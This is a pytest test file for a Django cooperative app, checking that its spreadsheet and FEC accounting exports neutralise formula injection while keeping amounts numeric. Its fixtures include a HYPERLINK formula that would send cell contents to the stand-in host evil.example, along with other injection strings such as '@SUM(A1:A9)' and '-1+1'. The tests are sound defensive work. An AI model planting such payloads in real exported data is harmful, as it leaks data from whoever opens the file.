"""Every spreadsheet download defuses formulas in its text and keeps its numbers numbers.

A name, a pseudonym or a label starting with = + - @ (or a tab) would run as a formula when
an officer or an accountant opens the file in a spreadsheet.
"""

import csv
import datetime
import io
import re
import zipfile
from decimal import Decimal

import pytest
from django.core.management import call_command
from django.urls import reverse

from commun.conftest import category, client_for, make_member
from commun.ledger import funds
from commun.ledger.models import Transaction
from commun.lib.csvstream import csv_response, plain_euros, spreadsheet_cell
from commun.members.models import Member, ShareMovement, Visibility
from commun.testing.upstream import fill_fund
from commun.upstream.models import Gift, UpstreamProject

pytestmark = pytest.mark.django_db

LINK = '=HYPERLINK("http://evil.example/?d="&A1;"clic")'
HOSTILE = [LINK, "+1", "-1+1", "@SUM(A1:A9)", "\t=1+1"]
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
# A plain amount may start with a minus sign: it is a number, not a formula.
NUMBER = re.compile(r"-?\d+([.,]\d+)?")


def dangerous(cell: str) -> bool:
    return cell.startswith(FORMULA_START) and not NUMBER.fullmatch(cell)


def read_csv(response) -> list[list[str]]:
    assert response.status_code == 200, response.status_code
    content = response.streaming_content if response.streaming else [response.content]
    text = b"".join(content).decode().lstrip("\ufeff")
    return list(csv.reader(io.StringIO(text)))


def read_fec(text: str) -> list[list[str]]:
    return [line.split("\t") for line in text.splitlines()]


@pytest.fixture
def hostile(alice, bob, monkeypatch, settings, tmp_path):
    monkeypatch.delenv("COMMUN_SIGNING_KEY", raising=False)
    settings.DATA_DIR = tmp_path
    eve = make_member("eve@example.org", LINK, "-1+1", category("Partenaires"))
    mallory = make_member("mallory@example.org", "@SUM(A1:A9)", "\t=1+1", category("Partenaires"))
    for member, pseudonym in ((eve, "+1"), (mallory, "-1+1")):
        Member.objects.filter(pk=member.pk).update(
            pseudonym=pseudonym, public_visibility=Visibility.PSEUDONYM
        )
    eve.refresh_from_db()
    ShareMovement.objects.record(
        ShareMovement.Kind.SUBSCRIPTION, bob, 1, reason="@SUM(A1:A9)", authorised_by="+1"
    )
    for n, label in enumerate(HOSTILE):
        Transaction.objects.record(
            datetime.date(2026, 2, 1 + n),
            label,
            [("512", 1_250), ("706", -1_250)],
            idempotency_key=f"h{n}",
        )
    funds.top_up(5_000, idempotency_key="r", label="Dotation", on=datetime.date(2026, 2, 28))
    funds.commit("M9", "-1+1", 1_000, idempotency_key="m9", on=datetime.date(2026, 3, 1))
    fill_fund(5_000)
    project = UpstreamProject.objects.create(name="@SUM(A1:A9)", url="https://example.org/")
    gift = Gift.objects.plan(alice, project=project, amount_cents=1_000, reference=LINK)
    gift.pay(alice, datetime.date(2026, 3, 2), "g1")
    return eve


def assert_defused(rows: list[list[str]], expected: list[str]):
    cells = [cell for row in rows[1:] for cell in row]
    assert not [cell for cell in cells if dangerous(cell)]
    for text in expected:
        assert any(cell.startswith("'" + text) for cell in cells), text


def test_the_register_defuses_names_pseudonyms_and_reasons(people, hostile):
    officer = read_csv(people["officer"].get(reverse("members:register_csv")))
    member = read_csv(people["member"].get(reverse("members:register_csv")))

    assert_defused(officer, [LINK, "@SUM(A1:A9)", "+1"])
    assert_defused(member, ["+1", "-1+1", "@SUM(A1:A9)"])


def test_the_ledger_csv_defuses_labels_and_account_names_and_keeps_amounts(people, hostile):
    rows = read_csv(people["visitor"].get(reverse("ledger:transactions_csv")))

    assert_defused(rows, [LINK, "+1", "-1+1", "@SUM(A1:A9)"])
    assert ["12.50", ""] in [row[5:7] for row in rows]


def test_the_gifts_csv_defuses_projects_and_references(people, hostile):
    rows = read_csv(people["visitor"].get(reverse("upstream:gifts_csv")))

    assert_defused(rows, ["@SUM(A1:A9)", LINK])


def test_the_record_of_processing_csv_has_no_formula(people, hostile):
    rows = read_csv(people["officer"].get(reverse("privacy:record_csv")))

    assert_defused(rows, [])


def test_the_personal_archive_csv_defuses_the_person_s_own_text(hostile):
    response = client_for(hostile.user).get(reverse("privacy:my_data"))
    archive = zipfile.ZipFile(io.BytesIO(response.content))
    rows = list(csv.reader(io.StringIO(archive.read("members.Member.csv").decode())))

    assert_defused(rows, [LINK, "-1+1", "+1"])


def test_the_fec_defuses_text_columns_and_keeps_amounts_numbers(people, hostile):
    response = people["officer"].get(reverse("exports:fec", args=[2026]))
    web = b"".join(response.streaming_content).decode()
    out = io.StringIO()
    call_command("export", "fec", "--year", "2026", stdout=out)
    rows = read_fec(web)

    assert out.getvalue() == web
    # The tab that starts a label cannot survive in a tab-separated file: it becomes a space.
    assert_defused(rows, [LINK, "+1", "-1+1", "@SUM(A1:A9)", "=1+1"])
    header = rows[0]
    amounts = [row[header.index(column)] for row in rows[1:] for column in ("Debit", "Credit")]
    assert "12,50" in amounts and all(NUMBER.fullmatch(a) for a in amounts)


def test_numbers_are_written_as_numbers_and_text_as_text():
    response = csv_response(
        ["a", "b", "c", "d"], [[plain_euros(-1_250), -3, Decimal("-1.5"), "-1"]], "x.csv"
    )

    assert read_csv(response)[1] == ["-12.50", "-3", "-1.5", "'-1"]


@pytest.mark.parametrize("number", [-3, -1.5, Decimal("-1.5"), -2.5e-7, 0.0])
def test_a_negative_or_any_number_is_no_formula_and_stays_untouched(number):
    assert spreadsheet_cell(number) is number


@pytest.mark.parametrize("text", ["-1.5", "=1+1", "-3"])
def test_text_that_looks_like_a_number_is_still_defused(text):
    assert spreadsheet_cell(text) == "'" + text
